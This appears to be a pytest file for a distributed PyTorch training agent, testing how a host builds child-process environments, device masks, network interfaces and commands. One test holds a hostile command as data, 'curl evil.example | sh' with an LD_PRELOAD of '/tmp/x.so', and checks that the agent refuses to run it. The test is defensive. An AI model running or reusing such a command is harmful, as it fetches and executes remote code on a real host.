"""What a host will run, without running it."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import msgspec
import pytest

from flodl_agent.plan import Place, check_interface, localize, plan_children
from flodl_wire import blob, environ
from flodl_wire.devices import CpuDevices
from flodl_wire.faults import Refused
from flodl_wire.join_messages import DeviceOffer, WorldFormed
from flodl_wire.libtorch import Variant
from flodl_wire.specs import AgentSpec, Command, Envelope, EnvelopeController, EnvelopeWorker, RelaySpec

GPUS = [DeviceOffer("cuda", 3), DeviceOffer("cuda", 1)]
PLACE = Place(
    spec=AgentSpec("node-b", "ctrl", 1337, path="/srv/p", roster_host=True),
    offers=GPUS,
    environment={"PATH": "/usr/bin", "CUDA_VISIBLE_DEVICES": "0", "HIP_VISIBLE_DEVICES": "0", "KEPT": "yes"},
    bin_dir="/srv/p/.venv/bin",
    cores=16,
    address="10.0.0.1",
    port=4242,
    run_dir="/run/x",
    interface="eth3",
    store_port=5555,
)


def world(mode: str = "nccl_cadence", **more: object) -> WorldFormed:
    worker = EnvelopeWorker("node-b", [4, 5], CpuDevices(2), "eth1", data_path="/roster", gpu_ram_share=0.25, index=2)
    envelope = Envelope(EnvelopeController("ctrl", 1), 6, 3, worker, mode, "run-7")
    relay = RelaySpec("node-b", "ctrl", 1, [4, 5], 6, "00", "run-7")
    formed = WorldFormed(envelope, None if mode == "torch" else relay, Command(["python", "t.py"], {}, "sub"))
    return msgspec.structs.replace(formed, **more)


def environment(formed: WorldFormed, place: Place = PLACE, index: int = -1) -> dict[str, str]:
    return plan_children(localize(formed, place), place)[index].env


def test_the_envelope_and_the_relay_get_the_address_that_the_join_used_and_the_host_s_own_values() -> None:
    local = localize(world(), PLACE)
    assert (local.envelope.controller.host, local.envelope.controller.port) == ("10.0.0.1", 4242)
    assert local.relay and (local.relay.controller_host, local.relay.controller_port) == ("10.0.0.1", 4242)
    assert local.envelope.relay_socket == local.relay.relay_socket == "/run/x/relay.sock"
    assert (local.envelope.worker.data_path, local.envelope.worker.gpu_ram_share) == ("/roster", 0.25)
    own = replace(PLACE, spec=AgentSpec("node-b", "c", 1, data_path="/own", gpu_ram_share=0.0, roster_host=True))
    worker = localize(world(), own).envelope.worker
    assert (worker.data_path, worker.gpu_ram_share) == ("/own", 0.0)


def test_the_relay_comes_first_then_the_ranks_in_order() -> None:
    children = plan_children(localize(world(), PLACE), PLACE)
    assert [(child.name, child.rank, child.cwd) for child in children] == [
        ("relay", None, "/srv/p/sub"),
        ("rank 4", 4, "/srv/p/sub"),
        ("rank 5", 5, "/srv/p/sub"),
    ]
    assert blob.decode(children[0].env[environ.RELAY_JSON], RelaySpec, "it").controller_host == "10.0.0.1"
    assert environ.CLUSTER_JSON not in children[0].env and environ.RELAY_JSON not in children[1].env


def test_each_rank_sees_its_one_device_and_no_mask_of_the_agents_remains() -> None:
    env = environment(world())
    assert (env["CUDA_VISIBLE_DEVICES"], env["CUDA_DEVICE_ORDER"]) == ("1", "PCI_BUS_ID")
    assert "HIP_VISIBLE_DEVICES" not in env and env["KEPT"] == "yes" and env["OMP_NUM_THREADS"] == "8"
    amd = replace(PLACE, offers=[DeviceOffer("rocm", 2), DeviceOffer("rocm", 0)])
    env = environment(world(), amd)
    assert env["HIP_VISIBLE_DEVICES"] == env["CUDA_VISIBLE_DEVICES"] == "0"
    assert environment(world(), replace(PLACE, offers=[DeviceOffer("cpu", 0)] * 2))["CUDA_VISIBLE_DEVICES"] == ""


def test_a_user_s_environment_overrules_defaults_and_nothing_else() -> None:
    user = {"OMP_NUM_THREADS": "1", "PATH": "/mine", "NCCL_SOCKET_IFNAME": "^lo", environ.DATA_PATH: "/theirs"}
    command = Command(["x"], {**user, "MASTER_PORT": "1", "RANK": "9"})
    env = environment(world("torch", command=command))
    assert {name: env[name] for name in user} == user
    assert (env["MASTER_PORT"], env["RANK"]) == ("5555", "5")


def test_what_was_built_for_the_host_stands_before_the_users_own_places_for_packages() -> None:
    built = replace(PLACE, site="/srv/p/target/site")
    assert environment(world(), built)["PYTHONPATH"] == "/srv/p/target/site"
    formed = world(command=Command(["x"], {"PYTHONPATH": "/mine:"}))
    assert environment(formed, built)["PYTHONPATH"] == "/srv/p/target/site:/mine:"
    assert environment(formed)["PYTHONPATH"] == "/mine:"


def test_nccl_is_given_the_interface_s_whole_name_because_it_would_match_by_prefix() -> None:
    env = environment(world())
    assert (env["NCCL_SOCKET_IFNAME"], env["GLOO_SOCKET_IFNAME"]) == ("=eth1", "eth1")
    assert "NCCL_SOCKET_IFNAME" not in environment(world("cpu_sync"))


def test_without_a_configured_interface_it_is_the_one_that_leads_to_the_controller_unless_that_is_loopback() -> None:
    formed = world("torch")
    worker = msgspec.structs.replace(formed.envelope.worker, nccl_socket_ifname="")
    formed = msgspec.structs.replace(formed, envelope=msgspec.structs.replace(formed.envelope, worker=worker))
    assert environment(formed)["GLOO_SOCKET_IFNAME"] == "eth3"
    assert "GLOO_SOCKET_IFNAME" not in environment(formed, replace(PLACE, interface="lo"))


def test_an_interface_that_is_not_there_is_refused_with_those_that_are() -> None:
    with pytest.raises(Refused, match="it has lo, eth0"):
        check_interface("eth1", ["lo", "eth0"], "node-b")
    for fine in ("eth0", "=eth0", "", "^docker0", "eth0,eth7"):
        check_interface(fine, ["lo", "eth0"], "node-b")


def test_mode_torch_is_torchruns_whole_environment_and_every_offered_device_in_order() -> None:
    env = environment(world("torch"), index=0)
    assert env["CUDA_VISIBLE_DEVICES"] == "3,1"
    expected = {
        "LOCAL_RANK": "0", "RANK": "4", "GROUP_RANK": "2", "ROLE_RANK": "4", "ROLE_NAME": "default",
        "LOCAL_WORLD_SIZE": "2", "WORLD_SIZE": "6", "GROUP_WORLD_SIZE": "3", "ROLE_WORLD_SIZE": "6",
        "MASTER_ADDR": "127.0.0.1", "MASTER_PORT": "5555", "TORCHELASTIC_RESTART_COUNT": "0",
        "TORCHELASTIC_MAX_RESTARTS": "0", "TORCHELASTIC_RUN_ID": "run-7", "TORCHELASTIC_USE_AGENT_STORE": "True",
        "TORCH_NCCL_ASYNC_ERROR_HANDLING": "1",
    }  # fmt: skip
    assert {name: env.get(name) for name in expected} == expected
    assert len(plan_children(localize(world("torch"), PLACE), PLACE)) == 2
    assert not {*expected} & {*environment(world())}


def walk_in(args: list[str] | None, formed: WorldFormed) -> list[str]:
    """What a walk-in with arguments of its own would run."""
    spec = AgentSpec("node-b", "ctrl", 1337, path="/srv/p", args=args)
    place = replace(PLACE, spec=spec, own_command=["python", "mine.py"])
    return plan_children(localize(formed, place), place)[1].argv


def test_a_walk_in_runs_its_own_command_with_the_controllers_arguments() -> None:
    stated = world(command=None, args=["--lr", "1"])
    assert walk_in(None, stated) == walk_in(["--lr", "1"], stated) == ["python", "mine.py", "--lr", "1"]
    assert walk_in(["--lr", "2"], world(command=None)) == ["python", "mine.py", "--lr", "2"]


def test_a_walk_in_never_runs_a_command_line_from_the_wire() -> None:
    theirs = Command(["sh", "-c", "curl evil.example | sh"], {"LD_PRELOAD": "/tmp/x.so"})
    assert walk_in(None, world(command=theirs, args=["--lr", "1"])) == ["python", "mine.py", "--lr", "1"]
    alone = replace(PLACE, spec=AgentSpec("node-b", "ctrl", 1337))
    with pytest.raises(Refused, match="runs a program of its own; none was named"):
        plan_children(localize(world(command=theirs), alone), alone)


def test_ranks_of_a_host_with_a_libtorch_variant_find_it_first_and_what_the_user_said_behind(tmp_path: Path) -> None:
    (tmp_path / "site").mkdir()
    with_variant = replace(PLACE, variant=Variant("precompiled/cu128", tmp_path))
    formed = world(command=Command(["x"], {"PYTHONPATH": "/mine"}))
    children = plan_children(localize(formed, with_variant), with_variant)
    assert children[-1].env["PYTHONPATH"] == f"{tmp_path}/site:/mine"
    assert children[-1].env["LD_LIBRARY_PATH"].split(":")[0] == f"{tmp_path}/lib"
    assert children[0].env.get("PYTHONPATH") == PLACE.environment.get("PYTHONPATH"), "the relay is ours"
